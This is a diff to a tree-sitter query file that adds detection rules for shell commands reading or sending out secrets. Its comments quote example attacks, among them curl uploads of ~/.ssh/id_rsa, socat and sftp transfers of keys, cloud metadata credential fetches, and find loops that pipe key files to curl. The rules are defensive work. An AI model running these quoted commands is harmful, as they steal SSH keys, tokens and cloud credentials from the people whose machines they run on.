@@ -66,13 +66,13 @@
 ((command name: (_) @fn argument: (_) @path) @secret.read
   (#lexicon? @fn "bash-senders")
   (#lexicon? @path "secret-paths")
-  (#value? @path "@|^--(post|body|upload)-file=|^(file|open|exec|gopen|-f|--file)[:=]")
+  (#value? @path "@|=<|^--(post|body|upload)-file=|^(file|open|exec|gopen|-f|--file)[:=]")
   (#set! id "upload"))
 
 ; curl -T ~/.ssh/id_rsa, wget --post-file ~/.netrc, nc …
 ((command name: (_) @fn argument: (_) @_flag . argument: (_) @path) @secret.read
   (#lexicon? @fn "bash-senders")
-  (#value? @_flag "^(-[a-zA-Z]*T|--upload-file|--post-file|--body-file|-a|-A|--attach|--attachment|-f|--file)$")
+  (#value? @_flag "^(-[a-zA-Z]*[TK]|--upload-file|--post-file|--body-file|--config|-b|--cookie|--load-cookies|-a|-A|--attach|--attachment|-f|--file)$")
   (#lexicon? @path "secret-paths")
   (#set! id "upload-flag"))
 
@@ -148,9 +148,9 @@
   (#set! kind "env-all")
   (#set! label "whole environment"))
 
-; export -p, declare -px
+; export -p, declare -px, declare -x and export alone
 ((declaration_command) @secret.read
-  (#match? @secret.read "^(export|declare|typeset|readonly)\\s+-[a-zA-Z]*p[a-zA-Z]*\\s*$")
+  (#match? @secret.read "^(export|declare|typeset|readonly)\\s+-[a-zA-Z]*p[a-zA-Z]*\\s*$|^(declare|typeset)\\s+-x\\s*$|^export\\s*$")
   (#set! id "declare")
   (#set! kind "env-all")
   (#set! label "whole environment"))
@@ -187,3 +187,133 @@
   (#set! id "gpg-export")
   (#set! kind "gnupg")
   (#set! label "GnuPG secret key"))
+
+; socat FILE:~/.ssh/id_rsa TCP:host:1
+((command name: (_) @fn argument: (_) @path) @secret.read
+  (#name? @fn "socat")
+  (#value? @path "(?i)^(file|open|gopen|create):")
+  (#lexicon? @path "secret-paths")
+  (#set! id "socat"))
+
+; lftp -e "put ~/.ssh/id_rsa" host, smbclient //host/share -c "put …": the commands of a copy in a word.
+((command name: (_) @fn argument: (_) @_flag . argument: (_) @path) @secret.read
+  (#name? @fn "lftp" "smbclient" "sftp" "ncftp")
+  (#value? @_flag "^(-e|-c|--command)$")
+  (#value? @path "(^|[;\\s])(m?put|reput|mirror -R)\\b.*(\\.ssh/|\\.aws/|\\.gnupg|\\.netrc|\\.kube/|\\.docker/config|\\.npmrc|\\.pypirc|\\.git-credentials|\\.env\\b|Login Data|logins\\.json|/etc/shadow)")
+  (#set! id "copy-word")
+  (#set! kind "stored-credentials")
+  (#set! label "stored credentials"))
+
+; echo "put ~/.ssh/id_rsa" | sftp host
+((pipeline (command argument: (_) @path) @secret.read (command name: (_) @fn))
+  (#name? @fn "sftp" "ftp" "lftp" "ncftp" "smbclient" "psftp")
+  (#value? @path "(^|[;\\s])(m?put|reput|mirror -R)\\b.*(\\.ssh/|\\.aws/|\\.gnupg|\\.netrc|\\.kube/|\\.docker/config|\\.npmrc|\\.pypirc|\\.git-credentials|\\.env\\b|Login Data|logins\\.json|/etc/shadow)")
+  (#set! id "copy-piped")
+  (#set! kind "stored-credentials")
+  (#set! label "stored credentials"))
+
+; awk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }', jq -n env: the environment by another's name for it.
+((command name: (_) @fn argument: (_) @_code) @secret.read
+  (#name? @fn "awk" "gawk" "mawk" "nawk")
+  (#value? @_code "in ENVIRON\\b")
+  (#set! id "env-awk")
+  (#set! kind "env-all")
+  (#set! label "whole environment"))
+((command name: (_) @fn argument: (_) @_code) @secret.read
+  (#name? @fn "jq" "gojq" "jaq")
+  (#value? @_code "(^|[\\s|(,\\[])(env|\\$ENV)([\\s|),\\]]|$)")
+  (#set! id "env-jq")
+  (#set! kind "env-all")
+  (#set! label "whole environment"))
+
+; ps eww, tmux show-environment, systemctl show-environment: the environment of others.
+((command name: (_) @fn . argument: (_) @_letters) @secret.read
+  (#name? @fn "ps")
+  (#value? @_letters "^[auxw]*e[auxw]*$")
+  (#set! id "env-processes")
+  (#set! kind "env-all")
+  (#set! label "environment of processes"))
+((command name: (_) @fn) @secret.read
+  (#name? @fn "tmux.show-environment" "tmux.showenv" "systemctl.show-environment" "launchctl.export")
+  (#set! id "env-session")
+  (#set! kind "env-all")
+  (#set! label "environment of a session"))
+
+; declare -p API_TOKEN, launchctl getenv API_TOKEN
+((declaration_command) @secret.read
+  (#match? @secret.read "^(declare|typeset)\\s+-[a-zA-Z]*p\\s+[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|CREDENTIALS)")
+  (#set! id "declare-name")
+  (#set! kind "env-secret")
+  (#set! label "secret of the environment"))
+((command name: (_) @fn argument: (_) @name) @secret.read
+  (#name? @fn "launchctl.getenv")
+  (#lexicon? @name "secret-env-names")
+  (#set! id "launchctl-name"))
+
+; ${!AWS_*}: the names of the variables that begin so, for a loop over ${!name}.
+((expansion) @secret.read
+  (#match? @secret.read "(?i)^\\$\\{!(AWS|AZURE|ARM|GITHUB|GH|GITLAB|GOOGLE|GCP|OPENAI|ANTHROPIC|HF|NPM|DOCKER|STRIPE|SLACK|SECRET|TOKEN|API)_?\\w*[*@]\\}$")
+  (#set! id "env-prefix")
+  (#set! kind "env-secret")
+  (#set! label "secrets of the environment"))
+
+; echo '$API_TOKEN' | envsubst
+((pipeline (command argument: (_) @_text) (command name: (_) @fn)) @secret.read
+  (#name? @fn "envsubst")
+  (#value? @_text "\\$\\{?[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|API_?KEY|ACCESS_KEY)")
+  (#set! id "env-substituted")
+  (#set! kind "env-secret")
+  (#set! label "secret of the environment"))
+
+; nmcli -s …, netsh wlan show profile x key=clear: the keys of wireless networks.
+((command name: (_) @fn argument: (_) @_flag) @secret.read
+  (#name? @fn "nmcli")
+  (#value? @_flag "^(-[a-z]*s|--show-secrets)$")
+  (#set! id "wireless")
+  (#set! kind "stored-credentials")
+  (#set! label "keys of wireless networks"))
+((command name: (_) @fn argument: (_) @_flag) @secret.read
+  (#name? @fn "netsh.wlan")
+  (#value? @_flag "(?i)^key=clear$")
+  (#set! id "wireless-windows")
+  (#set! kind "stored-credentials")
+  (#set! label "keys of wireless networks"))
+
+; sops -d file, heroku config -s
+((command name: (_) @fn argument: (_) @_flag) @secret.read
+  (#name? @fn "sops" "heroku.config")
+  (#value? @_flag "^(-d|--decrypt|-s|--shell|-j|--json)$")
+  (#set! id "decrypted")
+  (#set! kind "stored-credentials")
+  (#set! label "stored credentials"))
+
+; grep -r PRIVATE ~ --include='*.pem': key files by a search.
+((command name: (_) @fn argument: (_) @path) @secret.read
+  (#name? @fn "grep" "rg" "ag")
+  (#value? @path "^(--include|--glob|-g)=?.*(\\.pem|\\.key|\\.env|id_rsa|id_ed25519|\\.ppk|credentials)")
+  (#set! id "grep-keys")
+  (#set! kind "stored-credentials")
+  (#set! label "key files"))
+
+; curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role: what a machine in a cloud may do.
+((command name: (_) @fn argument: (_) @path) @secret.read
+  (#lexicon? @fn "bash-senders")
+  (#value? @path "//(169\\.254\\.169\\.254|metadata\\.google\\.internal|169\\.254\\.170\\.2|100\\.100\\.100\\.200)/.*(credentials|/token|/identity|oauth2)")
+  (#set! id "metadata")
+  (#set! kind "cloud")
+  (#set! label "credentials of the machine"))
+
+; find ~/.ssh -exec sh -c 'curl -F f=@$1 …' _ {} \;: what is found there is handed to a shell that sends it.
+((command name: (_) @fn argument: (_) @path argument: (_) @_code) @secret.read
+  (#name? @fn "find" "fd" "fdfind")
+  (#lexicon? @path "secret-paths")
+  (#value? @_code "\\b(curl|wget|nc|ncat|scp|rsync|cat|base64)\\s")
+  (#set! id "find-shell"))
+
+; find ~ -name id_rsa | while read -r f; do …: a search of a home for keys, for a loop over them.
+((pipeline (command name: (_) @fn . argument: (_) @_where argument: (_) @_flag . argument: (_) @path) @secret.read (while_statement))
+  (#name? @fn "find")
+  (#value? @_where "^(~|/|/home.*|/root.*|/Users.*|~/.*)$")
+  (#value? @_flag "^-i?(name|path|wholename)$")
+  (#lexicon? @path "secret-paths")
+  (#set! id "find-loop"))
